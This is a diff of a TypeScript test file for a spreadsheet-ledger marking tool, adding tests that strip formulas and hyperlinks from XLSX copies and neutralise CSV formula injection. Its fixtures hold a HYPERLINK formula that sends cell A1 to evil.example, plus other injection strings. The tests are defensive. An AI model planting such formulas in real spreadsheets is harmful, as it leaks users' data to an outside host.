@@ -49,9 +49,10 @@ describe('a marked copy of a workbook', async () => {
     expect(cell).toMatchObject({ kind: 'text', text: '=1+1', formula: false })
     for (const row of before[0]?.rows ?? [])
       for (const [column, was] of row.cells)
-        expect(after[0]?.rows.find(({ number }) => number === row.number)?.cells.get(column), `${row.number}`).toEqual(
-          was,
-        )
+        expect(after[0]?.rows.find(({ number }) => number === row.number)?.cells.get(column), `${row.number}`).toEqual({
+          ...was,
+          formula: false,
+        })
     expect(after[0]?.merges).toEqual(before[0]?.merges)
   })
 
@@ -72,7 +73,9 @@ describe('a marked copy of a workbook', async () => {
   test('is read like the original, and a second round writes the same column anew', async () => {
     const once = await marked(original, marks)
     const again = readLedger(await gridOf(once), on('2026-11-23'), NO_WORDS)
-    expect(again.rows.map((row) => row.notes)).toEqual(ledger.rows.map((row) => row.notes))
+    // Its formulas have become the values they had.
+    const said = ledger.rows.map((row) => row.notes.filter(({ code }) => code !== 'FORMULA'))
+    expect(again.rows.map((row) => row.notes)).toEqual(said)
     expect(again.sheets[0]?.unknownColumns).toEqual(ledger.sheets[0]?.unknownColumns)
     const twice = await gridOf(await marked(once, { ...marks, marks: [{ row: 8, columns: [], text: '改这里' }] }))
     expect([textAt(twice, 4, wide), textAt(twice, 7, wide), textAt(twice, 8, wide)]).toEqual([
@@ -104,6 +107,55 @@ describe('a marked copy of a workbook', async () => {
     })
     expect([textAt(await gridOf(made), 1, 2), textAt(await gridOf(made), 2, 2)]).toEqual(['错误说明', '名称'])
   })
+})
+
+test('no formula and no link leaves in a marked copy, the values they had do', async () => {
+  const sheet = (body: string, after = '') => `<worksheet><sheetData>${body}</sheetData>${after}</worksheet>`
+  const link = 'HYPERLINK("https://evil.example/?"&amp;A1,"点这里")'
+  const rows = `<row r="1"><c r="A1" t="inlineStr"><is><t>项目名称</t></is></c></row><row r="2"><c r="A2" t="str"><f>${link}</f><v>点这里</v></c><c r="B2"><f t="shared" si="0"/><v>42</v></c><c r="C2"><f ca="1">NOW()</f></c></row>`
+  const parts = sheetParts(sheet(rows, '<hyperlinks><hyperlink ref="A2" r:id="rId9"/></hyperlinks>'))
+  const chain = { name: 'xl/calcChain.xml', body: '<calcChain><c r="A2" i="1"/></calcChain>' }
+  const types = {
+    name: '[Content_Types].xml',
+    body: '<Types><Override PartName="/xl/workbook.xml" ContentType="w"/><Override PartName="/xl/calcChain.xml" ContentType="c"/></Types>',
+  }
+  const made = await marked(zip([...parts, chain, types]), {
+    sheet: '台账',
+    headerRow: 1,
+    column: 4,
+    header: '错误说明',
+    marks: [{ row: 2, columns: [1], text: '名称' }],
+  })
+  const archive = await openArchive(made)
+  const xml = await archive.text('xl/worksheets/sheet1.xml')
+  expect(xml).not.toMatch(/<f[\s>/]|hyperlink|HYPERLINK/)
+  expect(archive.names).not.toContain('xl/calcchain.xml')
+  expect(await archive.text('[Content_Types].xml')).not.toContain('calcChain')
+  const grid = await gridOf(made)
+  expect([textAt(grid, 2, 1), textAt(grid, 2, 2), textAt(grid, 2, 3), textAt(grid, 2, 4)]).toEqual([
+    '点这里',
+    '42',
+    undefined,
+    '名称',
+  ])
+})
+
+test('a text of a CSV file that would act as a formula comes back as a text, and is read as it was', async () => {
+  const text =
+    '项目名称,金额,说明\r\n"=HYPERLINK(""https://evil.example"")",-3,"=""00123"""\r\n@SUM(A1),+86 371-1,-2+3\r\n'
+  const marks = { sheet: '台账', headerRow: 1, column: 4, header: '错误说明', marks: [] }
+  const made = await markCsv(Buffer.from(text), marks)
+  if (!made.ok) throw new Error(made.error.code)
+  const lines = made.value.toString().split('\r\n')
+  expect(lines[1]).toBe(`"'=HYPERLINK(""https://evil.example"")",-3,"=""00123"""`)
+  expect(lines[2]).toBe(`'@SUM(A1),+86 371-1,'-2+3`)
+  const grid = await gridOf(made.value)
+  expect([textAt(grid, 2, 1), textAt(grid, 2, 3), textAt(grid, 3, 1), textAt(grid, 3, 3)]).toEqual([
+    '=HYPERLINK("https://evil.example")',
+    '00123',
+    '@SUM(A1)',
+    '-2+3',
+  ])
 })
 
 test('a marked copy of a CSV file opens in a spreadsheet with its columns', async () => {
